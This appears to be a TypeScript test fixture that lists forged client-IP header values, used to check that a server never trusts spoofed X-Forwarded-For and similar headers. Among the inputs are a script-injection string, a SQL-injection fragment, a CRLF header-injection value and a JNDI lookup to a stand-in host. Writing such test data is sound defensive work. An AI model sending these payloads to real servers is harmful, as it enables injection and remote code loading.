/** What callers write to be taken for somebody else: lines of a header, as they go over the wire. None of them may ever be believed. */

const CLAIMED = '203.0.113.9';
const CLAIMED_V6 = '2001:db8::9';

const forwardedFor = [
  CLAIMED, '127.0.0.1', '10.0.0.1', '192.168.0.1', '169.254.169.254', '0.0.0.0', '255.255.255.255', CLAIMED_V6, '::1', '::', 'fe80::1%eth0',
  'fe80::1%25eth0', `::ffff:${CLAIMED}`, '::ffff:cb00:7109', '64:ff9b::203.0.113.9', `[${CLAIMED_V6}]`, `[${CLAIMED_V6}]:4711`, '[::1', '::1]',
  `${CLAIMED}:4711`, `${CLAIMED}:`, `${CLAIMED}:99999999`, `"${CLAIMED}"`, `"${CLAIMED}`, `'${CLAIMED}'`, `"[${CLAIMED_V6}]:4711"`,
  `for=${CLAIMED}`, `${CLAIMED}, ${CLAIMED}`, `${CLAIMED}, 10.0.0.1`, `10.0.0.1, ${CLAIMED}`, `127.0.0.1, 127.0.0.1, 127.0.0.1`, `${CLAIMED},`,
  `,${CLAIMED}`, `,,,${CLAIMED},,,`, ', ,', ',', '', ' ', `\t${CLAIMED}\t`, `   ${CLAIMED}   `, `${CLAIMED} ${CLAIMED}`, `${CLAIMED};${CLAIMED}`,
  `${CLAIMED}|10.0.0.1`, 'unknown', '_hidden', '_SEVKISEK', 'null', 'localhost', 'example.com', '127.1', '0x7f.0.0.1', '0x7f000001', '2130706433',
  '0177.0.0.1', '010.0.0.1', '1.2.3', '1.2.3.4.5', '999.999.999.999', '203.0.113.9/32', '0.0.0.0/0', '-1.0.0.1', '２０３.0.113.9', '*',
  '<script>alert(1)</script>', "' or 1=1 --", '%0d%0aX-Forwarded-For: 10.0.0.1', '${jndi:ldap://203.0.113.9/a}', `${'10.0.0.1, '.repeat(200)}${CLAIMED}`,
].map((value) => [`X-Forwarded-For: ${value}`]); // prettier-ignore

const otherHeaders = [
  'Forwarded: for=203.0.113.9', 'Forwarded: For="[2001:db8::9]:4711";proto=https;by=10.0.0.1', 'Forwarded: for=unknown, for=_hidden, for=203.0.113.9',
  'X-Real-IP: 203.0.113.9', 'X-Client-IP: 203.0.113.9', 'CF-Connecting-IP: 203.0.113.9', 'CF-Connecting-IPv6: 2001:db8::9',
  'True-Client-IP: 203.0.113.9', 'Fastly-Client-IP: 203.0.113.9', 'Fly-Client-IP: 203.0.113.9', 'X-Cluster-Client-IP: 203.0.113.9',
  'X-Azure-ClientIP: 203.0.113.9', 'X-AppEngine-User-IP: 203.0.113.9', 'X-Envoy-External-Address: 203.0.113.9', 'X-Original-Forwarded-For: 203.0.113.9',
  'X-Forwarded: for=203.0.113.9', 'Forwarded-For: 203.0.113.9', 'X-ProxyUser-IP: 203.0.113.9', 'X-Remote-IP: 203.0.113.9', 'X-Remote-Addr: 203.0.113.9',
  'Remote-Addr: 203.0.113.9', 'REMOTE_ADDR: 203.0.113.9', 'X_Forwarded_For: 203.0.113.9', 'Client-IP: 203.0.113.9', 'X-Originating-IP: [203.0.113.9]',
  'X-Host: 203.0.113.9', 'X-Forwarded-Host: 203.0.113.9', 'X-Forwarded-Server: 203.0.113.9', 'Via: 1.1 203.0.113.9', 'From: 203.0.113.9',
].map((line) => [line]); // prettier-ignore

const together = [
  [`X-Forwarded-For: ${CLAIMED}`, 'X-Forwarded-For: 10.0.0.1'],
  ['X-Forwarded-For: 10.0.0.1', `x-forwarded-for: ${CLAIMED}`, 'X-FORWARDED-FOR: 127.0.0.1'],
  ['X-Forwarded-For:', `X-Forwarded-For: ${CLAIMED}`, 'X-Forwarded-For: ,'],
  [`X-Forwarded-For: ${CLAIMED}`, `Forwarded: for=${CLAIMED}`, `X-Real-IP: ${CLAIMED}`, `True-Client-IP: ${CLAIMED}`],
  ['Connection: keep-alive, X-Forwarded-For', `X-Forwarded-For: ${CLAIMED}`],
];

/** Each is what one request carries. */
export const forgedAddresses: readonly (readonly string[])[] = [...forwardedFor, ...otherHeaders, ...together];

/** What a server makes of it: the lines of a header joined, as Node does. */
export const forwardedForOf = (lines: readonly string[]): string =>
  lines
    .filter((line) => line.toLowerCase().startsWith('x-forwarded-for:'))
    .map((line) => line.slice(line.indexOf(':') + 1).trim())
    .join(', ');
